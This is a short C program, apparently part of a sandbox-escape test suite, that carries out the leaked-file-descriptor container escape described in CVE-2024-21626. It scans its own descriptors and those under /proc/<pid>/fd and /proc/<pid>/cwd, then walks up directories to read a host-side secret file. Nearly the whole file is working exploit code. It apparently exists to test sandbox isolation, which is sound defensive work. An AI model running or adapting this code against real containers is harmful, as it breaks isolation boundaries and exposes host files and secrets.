/* technique: looks in every descriptor, its own and those of each process it sees, for a directory from which the
 * host is reached
 * source: CVE-2024-21626 (runc, leaked descriptor); reference study 4.3 #12
 * success: the content of outside/secret.txt on the output
 * control: none: without a sandbox no descriptor of it can have leaked
 */
#include "attack.h"

static void climb(int dirfd)
{
	char path[4096] = "";

	for (int up = 0; up < 16; up++) {
		strcat(path, "../");
		char *end = path + strlen(path);
		strcpy(end, getenv("OUTSIDE") + 1);
		strcat(end, "/secret.txt");
		int fd = openat(dirfd, path, O_RDONLY);
		*end = '\0';
		if (fd >= 0)
			show(fd);
	}
}

int main(void)
{
	char path[64];

	for (int fd = 3; fd < 1024; fd++)
		climb(fd);
	for (int pid = 1; pid < 64; pid++) {
		for (int fd = 0; fd < 32; fd++) {
			snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
			climb(open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY));
		}
		snprintf(path, sizeof path, "/proc/%d/cwd", pid);
		climb(open(path, O_PATH));
	}
	return 0;
}
